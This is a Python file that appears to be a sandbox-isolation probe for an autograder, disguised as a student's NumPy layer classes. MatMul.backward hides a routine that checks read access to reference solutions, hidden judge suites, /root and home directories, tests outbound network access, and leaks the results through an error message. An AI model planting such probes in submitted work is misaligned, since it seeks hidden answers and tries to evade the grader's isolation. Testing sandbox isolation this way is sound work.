# tries: to read the solutions, the hidden suites and home directories, and to use the network
import numpy as np

import glob
import os
import socket

SECRETS = ["/work/*/solutions/*.py", "/work/*/grading/judge/suites/*.py", "/root/.*",
           "/home/*/*", "/proc/1/cwd/*", "/proc/*/cwd/solutions/*.py"]


def look_around():
    """How much it could read, and whether the network answered: the error message
    (which the student sees) would be the way out."""
    readable = 0
    for pattern in SECRETS:
        for path in glob.glob(pattern)[:20]:
            try:
                with open(path, "rb") as f:
                    readable += bool(f.read(1))
            except OSError:
                pass
    try:
        socket.create_connection(("1.1.1.1", 53), timeout=0.5).close()
        network = "connected"
    except OSError as exc:
        network = type(exc).__name__
    return f"snooped: {readable} files readable; network: {network}"


class MatMul:
    def __init__(self, W):
        self.params = [W]
        self.grads = [np.zeros_like(W)]
        self.x = None

    def forward(self, x):
        self.x = x
        return np.dot(x, self.params[0])

    def backward(self, dout):
        raise RuntimeError(look_around())


class Sigmoid:
    def __init__(self):
        self.params, self.grads = [], []
        self.out = None

    def forward(self, x):
        self.out = 1 / (1 + np.exp(-x))
        return self.out

    def backward(self, dout):
        return dout * self.out * (1 - self.out)


class Affine:
    def __init__(self, W, b):
        self.params = [W, b]
        self.grads = [np.zeros_like(W), np.zeros_like(b)]
        self.x = None

    def forward(self, x):
        self.x = x
        W, b = self.params
        return np.dot(x, W) + b

    def backward(self, dout):
        W, b = self.params
        self.grads[0][...] = np.dot(self.x.T, dout)
        self.grads[1][...] = dout.sum(axis=0)
        return np.dot(dout, W.T)
